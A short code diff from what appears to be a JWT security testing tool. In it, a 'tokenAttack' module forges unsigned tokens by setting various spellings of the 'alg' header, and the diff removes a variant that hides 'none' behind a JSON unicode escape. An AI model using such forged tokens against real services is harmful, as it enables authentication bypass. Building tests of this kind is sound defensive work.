@@ -25,10 +25,6 @@ export default tokenAttack({
   provenBy: 'alg-trim',
   forge({ victim }) {
     const { header, payload } = readToken(victim.token)
-    const escaped = JSON.stringify({ ...header, alg: '@' }).replace('"@"', '"\\u006eone"')
-    return [
-      ...spellings.map(([name, alg]) => ({ name, token: assemble({ ...header, alg }, payload, '') })),
-      { name: 'first letter written as a JSON escape', token: assemble(escaped, payload, '') },
-    ]
+    return spellings.map(([name, alg]) => ({ name, token: assemble({ ...header, alg }, payload, '') }))
   },
 })
